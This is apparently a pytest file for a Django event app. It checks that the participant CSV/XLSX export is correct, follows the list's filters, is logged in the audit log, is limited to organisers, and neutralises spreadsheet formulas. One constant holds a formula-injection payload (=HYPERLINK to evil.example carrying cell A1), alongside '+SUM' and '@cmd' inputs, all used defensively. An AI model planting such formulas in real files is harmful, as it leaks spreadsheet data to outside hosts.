"""The participant list as CSV and XLSX: the filtered rows, formula-safe, organisers only."""

from __future__ import annotations

import csv
import io

import pytest

from sihub.conftest import login
from sihub.core.models import AuditEntry
from sihub.events.models import RegistrationStatus
from sihub.events.tests.organiser_testdata import register, url

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def _csv(response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _xlsx(response):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(response.content))
    return workbook[workbook.sheetnames[0]]


def test_csv_holds_every_column_in_the_organisers_language(facilitator, event):
    register(event, "Berit Berg", sector="academia", organisation="Lunds universitet",
             email="berit@example.org", dietary_needs="Vegan", accessibility_needs="Rullstol",
             photos=True, share_contact=False, checked_in=True)
    register(event, "Vera Vänta", status=RegistrationStatus.WAITING)
    response = login(facilitator).get(url("participants_export", event.pk, "csv",
                                          language="en"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    assert response["Cache-Control"] == "no-store"
    rows = _csv(response)
    assert [r["Name"] for r in rows] == ["Berit Berg", "Vera Vänta"]
    berit, vera = rows
    assert berit["E-mail"] == "berit@example.org"
    assert berit["Organisation"] == "Lunds universitet"
    assert berit["Sector"] == "Academia"
    assert berit["Status"] == "Registered"
    assert berit["Dietary needs"] == "Vegan"
    assert berit["Accessibility needs"] == "Rullstol"
    assert berit["Photo consent"] == "yes"
    assert berit["Contact sharing consent"] == "no"
    assert berit["Checked in"] != "" and berit["Registered"] != ""
    assert vera["Place on the waiting list"] == "1"
    assert vera["Checked in"] == ""
    assert vera["Photo consent"] == ""  # never asked


def test_the_export_follows_the_lists_filters(facilitator, event):
    register(event, "Pia Public", sector="public")
    register(event, "Per Private", sector="private")
    register(event, "Carl Cancelled", sector="private", status=RegistrationStatus.CANCELLED)
    response = login(facilitator).get(url("participants_export", event.pk, "csv",
                                          language="en"), {"sector": "private"})
    assert [r["Name"] for r in _csv(response)] == ["Per Private"]


def test_csv_defuses_formulas(facilitator, event):
    register(event, INJECTION, organisation="+SUM(1,2)", dietary_needs="@cmd")
    row = _csv(login(facilitator).get(url("participants_export", event.pk, "csv",
                                          language="en")))[0]
    assert row["Name"] == "'" + INJECTION
    assert row["Organisation"] == "'+SUM(1,2)"
    assert row["Dietary needs"] == "'@cmd"


def test_xlsx_opens_and_keeps_formulas_as_text(facilitator, event):
    register(event, INJECTION, sector="private", status=RegistrationStatus.WAITING)
    response = login(facilitator).get(url("participants_export", event.pk, "xlsx",
                                          language="en"))
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = _xlsx(response)
    header = [cell.value for cell in sheet[1]]
    assert header[:5] == ["Name", "E-mail", "Organisation", "Sector", "Status"]
    name_cell = sheet.cell(row=2, column=1)
    assert name_cell.data_type == "s"  # text, never a formula
    assert name_cell.value == INJECTION
    values = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert values["Sector"] == "Private sector"
    assert values["Status"] == "On the waiting list"
    assert values["Place on the waiting list"] == 1


def test_an_unknown_format_is_not_found(facilitator, event):
    assert login(facilitator).get(url("participants_export", event.pk, "pdf")).status_code == 404


def test_an_export_is_noted_in_the_audit_log(facilitator, event):
    register(event, "Berit Berg")
    login(facilitator).get(url("participants_export", event.pk, "csv"))
    entry = AuditEntry.objects.get(action="events.participants_exported")
    assert entry.data == {"format": "csv", "rows": 1}
    assert "Berit" not in entry.target_label


@pytest.mark.parametrize("persona", ["outsider", "analyst"])
def test_the_export_is_refused_to_people_who_do_not_organise(request, event, persona):
    register(event, "Berit Berg")
    client = login(request.getfixturevalue(persona))
    for fmt in ("csv", "xlsx"):
        response = client.get(url("participants_export", event.pk, fmt))
        assert response.status_code == 403
        assert b"Berit" not in response.content


def test_the_export_sends_anonymous_visitors_to_log_in(client, event):
    response = client.get(url("participants_export", event.pk, "csv"))
    assert response.status_code == 302 and "/login/" in response.url
